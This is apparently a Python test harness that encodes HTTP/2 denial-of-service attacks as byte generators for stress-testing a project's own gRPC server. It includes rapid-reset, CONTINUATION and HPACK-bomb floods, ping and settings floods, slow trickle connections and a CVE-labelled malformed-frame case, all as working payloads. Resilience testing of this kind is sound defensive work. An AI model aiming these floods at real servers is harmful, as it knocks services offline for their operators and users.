"""The attacks of Documentation/Protocol.md section 3, as what each of their connections sends.

A script is a generator of bytes to send; a float that it yields is a pause in seconds. It is begun
anew when the server has closed its connection.
"""

import itertools
import random
import struct
from dataclasses import dataclass
from typing import Callable

from http2 import (
    ACK,
    DATA,
    EMPTY_MESSAGE,
    END_HEADERS,
    END_STREAM,
    FIELDS,
    HEADERS,
    OPENING,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    call,
    frame,
    literal,
    request_fields,
)

PRIORITY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 2, 8, 9, 200
PADDED = 8
CANCEL = struct.pack(">I", 8)
WINDOW_MAX = struct.pack(">I", 0x7FFF_FFFF)
ONE = struct.pack(">I", 1)
# Twenty leads: an answer of some kilobytes.
LEADS = request_fields(b"/baton.v1.LeadService/ListLeads")
# page_size = 20.
LEADS_MESSAGE = b"\0\0\0\0\2\x30\x14"
# Leaves the connection's window open, for all that matters.
WIDE = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF_0000))
# What a flood sends at once, in frames.
BATCH = 200


@dataclass
class Attack:
    """One attack."""

    name: str
    script: Callable
    # Connections at once.
    connections: int = 4
    # Whether what the server says is read.
    reads: bool = True


def headers(stream, fields=FIELDS, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, fields)


def leads(stream):
    return headers(stream, LEADS) + frame(DATA, END_STREAM, stream, LEADS_MESSAGE)


def streams():
    """Stream ids, far beyond what any server takes from one connection."""
    return range(1, 1 << 30, 2)


def flood(one, before=b"", opening=OPENING):
    """One frame over and over."""
    yield opening + before
    while True:
        yield one * BATCH


def flood_streams(make, opening=OPENING):
    """Something on one new stream after the other."""
    yield opening
    ids = iter(streams())
    while True:
        yield b"".join(make(stream) for stream in itertools.islice(ids, BATCH))


def trickle(data, before=b"", seconds=0.5):
    """Single bytes; then nothing more."""
    yield before
    for byte in data:
        yield bytes((byte,))
        yield seconds
    while True:
        yield 1.0


def rapid_reset(stream):
    return call(stream) + frame(RST_STREAM, 0, stream, CANCEL)


def window_overflow(stream):
    return headers(stream) + frame(WINDOW_UPDATE, 0, stream, WINDOW_MAX)


def wrong_length(stream):
    return headers(stream, FIELDS + literal(b"content-length", b"1")) + frame(
        DATA, END_STREAM, stream, EMPTY_MESSAGE
    )


def forbidden_header(stream):
    return headers(stream, FIELDS + literal(b"connection", b"close"))


def continuation_flood():
    yield OPENING + headers(1, flags=0)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\1x\1x") * BATCH


def hpack_bomb():
    # One field of 3,000 bytes enters the table; each further byte is that field again.
    field = b"\x40\1x\x7f\xb9\x16" + b"y" * 3000
    yield OPENING + headers(1, FIELDS + field + b"\xbe" * 12_000, flags=0)
    for _ in range(7):
        yield frame(CONTINUATION, 0, 1, b"\xbe" * 16_000)
    while True:
        yield 1.0


def long_header():
    yield OPENING + headers(1, FIELDS + b"\0\1x\x7f\xf1\xa1\x04", flags=0)
    for _ in range(6):
        yield frame(CONTINUATION, 0, 1, b"y" * 16_000)
    while True:
        yield 1.0


def trickled_answers():
    """Many answers that may leave a byte at a time."""
    yield PREFACE + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + frame(SETTINGS, ACK, 0) + WIDE
    yield from leads_in_time(range(1, 201, 2))
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, ONE) for stream in range(1, 201, 2))
        yield 0.5


def unread_answers():
    """As many answers as there may be, and nobody reads them."""
    yield PREFACE + frame(SETTINGS, 0, 0, b"\0\4\x7f\xff\xff\xff") + frame(SETTINGS, ACK, 0) + WIDE
    yield from leads_in_time(streams())


def leads_in_time(ids):
    """Calls that are no flood by themselves: the work they make is not what is tried."""
    for stream in ids:
        yield leads(stream)
        yield 0.25


def over_the_limit():
    """Calls that do not end, before and after our SETTINGS are acknowledged."""
    yield PREFACE + frame(SETTINGS, 0, 0)
    yield b"".join(headers(stream) for stream in range(1, 601, 2))
    yield frame(SETTINGS, ACK, 0)
    yield from (headers(stream) for stream in range(601, 3001, 2))


def old_streams():
    """Stream ids that are used up, or smaller than the last."""
    yield OPENING + call(5)
    yield 0.02
    yield call(3) + call(5)
    while True:
        yield 1.0


def bad_length_after_end():
    """CVE-2026-27135: the end of a session, and a frame of a bad length in the same read."""
    bad = frame(RST_STREAM, 0, 1, b"\0\0\0")
    yield OPENING + call(5) + call(3) + bad + call(7) + bad
    while True:
        yield 1.0


def garbage():
    yield random.randbytes(400)
    yield 1.0


def http1():
    yield b"GET / HTTP/1.1\r\nHost: test\r\n\r\n"
    yield 1.0


def half_messages():
    """A message that comes a byte at a time, on as many streams as there may be."""
    yield OPENING + b"".join(headers(stream) for stream in range(1, 401, 2))
    for byte in b"\0\0\0\xff\xff" + bytes(0xFFFF):
        yield b"".join(frame(DATA, 0, stream, bytes((byte,))) for stream in range(1, 401, 2))
        yield 0.5


SETTINGS_33 = frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0" * 33)
PADDED_DATA = frame(DATA, PADDED, 1, b"\xff" + bytes(255))
PING_FRAME = frame(PING, 0, 0, b"12345678")
SLOW_CONNECTIONS = 300

ATTACKS = [
    Attack("rapid-reset", lambda: flood_streams(rapid_reset)),
    Attack("reset-by-window", lambda: flood_streams(window_overflow)),
    Attack("reset-by-length", lambda: flood_streams(wrong_length)),
    Attack("reset-by-header", lambda: flood_streams(forbidden_header)),
    Attack("continuation", continuation_flood),
    Attack("hpack-bomb", hpack_bomb),
    Attack("long-header", long_header),
    Attack("ping", lambda: flood(PING_FRAME)),
    Attack("ping-unread", lambda: flood(PING_FRAME), reads=False),
    Attack("settings", lambda: flood(frame(SETTINGS, 0, 0))),
    Attack("settings-unread", lambda: flood(frame(SETTINGS, 0, 0)), reads=False),
    Attack("settings-33", lambda: flood(SETTINGS_33, opening=PREFACE)),
    Attack("empty-data", lambda: flood(frame(DATA, 0, 1), before=headers(1))),
    Attack("padded-data", lambda: flood(PADDED_DATA, before=headers(1))),
    Attack("priority", lambda: flood(frame(PRIORITY, 0, 3, b"\0\0\0\5\1"))),
    Attack("window-update", lambda: flood(frame(WINDOW_UPDATE, 0, 0, ONE))),
    Attack("unknown-frames", lambda: flood(frame(UNKNOWN, 0, 0, b"123"))),
    Attack("trickled-answers", trickled_answers, connections=10),
    Attack("unread-answers", unread_answers, connections=8, reads=False),
    Attack("slow-preface", lambda: trickle(PREFACE), connections=SLOW_CONNECTIONS),
    Attack(
        "slow-headers", lambda: trickle(headers(1), before=OPENING), connections=SLOW_CONNECTIONS
    ),
    Attack("slow-messages", half_messages, connections=10),
    Attack("over-the-limit", over_the_limit),
    Attack("old-streams", old_streams),
    Attack("bad-length", bad_length_after_end),
    Attack("garbage", garbage, connections=50),
    Attack("http1", http1, connections=50),
]
